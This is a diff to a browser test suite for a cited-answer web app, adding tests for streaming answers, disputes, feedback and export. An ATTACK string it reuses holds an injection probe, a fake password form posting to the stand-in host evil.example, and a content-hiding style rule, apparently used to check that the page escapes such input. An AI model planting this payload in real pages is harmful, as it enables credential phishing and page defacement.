@@ -3,6 +3,7 @@
 Set ``FOOTNOTE_SCREENSHOTS`` to a folder to keep a picture of the page at the end of each test.
 """
 
+import json
 import os
 import re
 import shutil
@@ -10,6 +11,7 @@ import subprocess
 import sys
 import time
 from contextlib import contextmanager
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -19,6 +21,7 @@ from corpus.article import Article
 from corpus.errors import ModelError
 from page import strings
 from page.scripted import Scripted, Shelf, abstained, answered, passage
+from qa.answer import Disagreement, Inferred, Side
 
 pytestmark = pytest.mark.browser
 
@@ -33,6 +36,7 @@ ATTACK = (
     "${pwned=1} [7] <form action=//evil.example><input type=password></form><style>*{display:none}</style>"
 )
 
+STORY, FULL = "Tell the whole story", "When did it sink last week?"
 LONG = "\n\n".join(f"Paragraph {n} is about nothing in particular, and goes on for a while." for n in range(40))
 FERRY = Article(
     "ferry",
@@ -50,9 +54,9 @@ HOSTILE = Article(ATTACK, f"{ATTACK}\n\nQuoted {ATTACK}", ATTACK, (ATTACK,), ATT
 class Slow(Scripted):
     """Takes its time over questions that say so."""
 
-    def ask(self, question):
-        time.sleep(0.7 if "slow" in question else 0)
-        return super().ask(question)
+    def events(self, query, stop=lambda: False):
+        time.sleep(0.7 if "slow" in query.query_str else 0)
+        yield from super().events(query, stop)
 
 
 def scripted():
@@ -64,12 +68,40 @@ def scripted():
         Shelf([FERRY, PORT, HOSTILE]),
         {
             "What happened to the ferry?": answered("What happened to the ferry?", *ferry),
-            "Attack": answered(ATTACK, hostile),
+            STORY: answered(STORY, *ferry * 20),
+            FULL: full(ferry),
+            "Attack": replace(
+                full([hostile, hostile]),
+                question=ATTACK,
+                standalone_question=f"Again {ATTACK}",
+                notices=(ATTACK,),
+                inferred=(Inferred(ATTACK, ATTACK, ATTACK),),
+                disagreements=(Disagreement("conflict", ATTACK, (Side(ATTACK, ATTACK, 1), Side(ATTACK, "", 2))),),
+                newest=ATTACK,
+            ),
             "Nothing": abstained(ATTACK, hostile, missing=ATTACK),
             "No model": ModelError("The model is not there: install it."),
             "Who won?": abstained("Who won?", ferry[1], ferry[2], missing="No article says who won."),
         },
         ["What happened to the ferry?", ATTACK],
+        pause=0.4,
+    )
+
+
+def full(quotes):
+    """An answer with everything that can be said about it."""
+    answer = answered(FULL, *quotes)
+    first, *others = answer.sentences
+    doubted = [replace(each, verdict="not confirmed", mismatches=("412 is not in it",)) for each in others[:1]]
+    return replace(
+        answer,
+        standalone_question="When did the ferry sink last week?",
+        sentences=(replace(first, marks=((18, 21),)), *doubted, *others[1:]),
+        disagreements=(Disagreement("later update", "people", (Side("412", "2004-03-02", 1), Side("410", "", 2))),),
+        origins=1,
+        newest="2004-03-02",
+        inferred=(Inferred("last week", "2004-03-01", "2004-03-07"),),
+        notices=("The model did not reply.",),
     )
 
 
@@ -462,7 +494,8 @@ def test_everything_that_can_be_pressed_has_a_name(visit, address):
     )
     assert all(names)
     log = page.get_by_role("log", name=strings.CONVERSATION)
-    assert log.get_attribute("aria-live") == "polite"
+    assert log.get_attribute("aria-live") == "off"
+    expect(page.locator(".fn-unseen[role=status]")).to_contain_text("No article says who won.")
     assert page.locator("h1").count() == 1
     assert page.evaluate("document.documentElement.lang") == "en"
     assert page.title() == strings.PAGE_TITLE
@@ -474,6 +507,93 @@ def test_two_readers_do_not_see_each_other(visit, address):
     turn = ask(other, "Who won?")
     expect(turn).to_contain_text("No article says who won.")
     expect(other.locator(".fn-turn")).to_have_count(1)
+
+
+def test_an_answer_grows_and_stop_ends_it(visit, address):
+    page = visit(address)
+    page.get_by_label(strings.QUESTION_LABEL).fill(STORY)
+    page.keyboard.press("Enter")
+    turn = page.locator(".fn-turn")
+    expect(turn.locator(".fn-sentence").nth(1)).to_be_visible()
+    expect(turn).to_have_attribute("aria-busy", "true")
+    expect(turn).to_contain_text(strings.WRITING)
+    page.get_by_role("button", name=strings.STOP, exact=True).click()
+    expect(turn).not_to_have_attribute("aria-busy", "true")
+    assert 2 <= turn.locator(".fn-sentence").count() < 30
+    expect(turn.get_by_role("button", name=strings.COPY_ANSWER)).to_be_visible()
+    expect(page.get_by_role("button", name=strings.STOP, exact=True)).to_be_hidden()
+
+
+@pytest.mark.parametrize(("size", "scheme"), [(WIDE, "light"), (NARROW, "dark")], ids=["wide-light", "narrow-dark"])
+def test_what_a_reader_must_know_is_shown_and_can_be_taken_back(visit, address, size, scheme):
+    page = visit(address, size, scheme)
+    ask(page, "What happened to the ferry?")
+    turn = ask(page, FULL)
+    expect(turn.locator(".fn-answer mark")).to_have_text("412")
+    for words in ("Not confirmed by its source", "412 is not in it", "The model did not reply.", "A later update on",
+                  "From 2 articles, 1 origin", "Newest article used: 2 March 2004", "Asked as: When did the ferry",
+                  "last week: 1 to 7 March 2004"):  # fmt: skip
+        expect(turn).to_contain_text(words)
+    assert page.evaluate("document.documentElement.scrollWidth") <= size["width"]
+    turn.get_by_label(strings.DROP_DATES).click()
+    expect(turn.get_by_label(strings.DROP_CARRY)).to_be_visible()
+    turn.get_by_label(strings.DROP_CARRY).click()
+    expect(turn.get_by_label(strings.DROP_CARRY)).to_have_count(0)
+    expect(page.locator(".fn-turn")).to_have_count(2)
+    turn.locator(".fn-dispute button").first.click()
+    assert cited(page) == "The ferry carried 412 people."
+
+
+def test_feedback_on_an_answer_and_on_a_footnote_is_kept(visit, address):
+    page = visit(address, NARROW)
+    turn = ask(page, "What happened to the ferry?")
+    turn.get_by_role("button", name=strings.FEEDBACK["helpful"], exact=True).click()
+    dialog = page.get_by_role("dialog", name=strings.FEEDBACK["helpful"])
+    dialog.get_by_label(strings.NOTE).fill(ATTACK)
+    dialog.get_by_role("button", name=strings.SEND).click()
+    expect(page.locator(".fn-toast")).to_have_text(strings.THANKS)
+    expect(turn).to_contain_text("You said: helpful")
+    turn.locator(".fn-cite").nth(1).click()
+    page.get_by_role("button", name=strings.FEEDBACK["wrong citation"]).click()
+    dialog = page.get_by_role("dialog", name=f"{strings.FEEDBACK['wrong citation']} (2)")
+    page.keyboard.press("Escape")
+    expect(dialog).to_have_count(0)
+    page.get_by_role("button", name=strings.FEEDBACK["wrong citation"]).click()
+    page.get_by_role("dialog").get_by_role("button", name=strings.SEND).click()
+    expect(turn).to_contain_text("footnote 2 is wrong")
+    assert page.evaluate("typeof pwned") == "undefined"
+
+
+def test_a_reload_keeps_the_conversation_and_a_new_tab_begins_anew(visit, address):
+    page = visit(address)
+    ask(page, "What happened to the ferry?")
+    page.reload()
+    expect(page.locator(".fn-turn")).to_have_count(1)
+    page.locator(".fn-cite").nth(2).click()
+    assert cited(page) == "It sank in 2004."
+    ask(page, "Who won?")
+    expect(page.locator(".fn-turn")).to_have_count(2)
+    page.get_by_role("button", name=strings.NEW_CONVERSATION).click()
+    expect(page.locator(".fn-welcome")).to_be_visible()
+    page.reload()
+    expect(page.locator(".fn-welcome")).to_be_visible()
+    expect(visit(address).locator(".fn-turn")).to_have_count(0)
+
+
+def test_an_answer_and_the_conversation_can_be_saved_and_printed(visit, address):
+    page = visit(address)
+    turn = ask(page, "What happened to the ferry?")
+    with page.expect_download() as saving:
+        turn.get_by_role("button", name=strings.EVIDENCE).click()
+    assert json.loads(Path(saving.value.path()).read_text())["schema"] == "footnote.answer/1"
+    with page.expect_download() as saving:
+        page.get_by_role("button", name=strings.TAKE_MARKDOWN).click()
+    assert saving.value.suggested_filename == "footnote.md"
+    assert "[^1-3]: “It sank in 2004.”" in Path(saving.value.path()).read_text()
+    page.emulate_media(media="print")
+    expect(turn.locator(".fn-answer")).to_be_visible()
+    expect(page.locator("#fn-pane")).to_be_hidden()
+    expect(page.get_by_label(strings.QUESTION_LABEL)).to_be_hidden()
 
 
 def test_an_empty_library_says_what_to_do(visit, tmp_path):
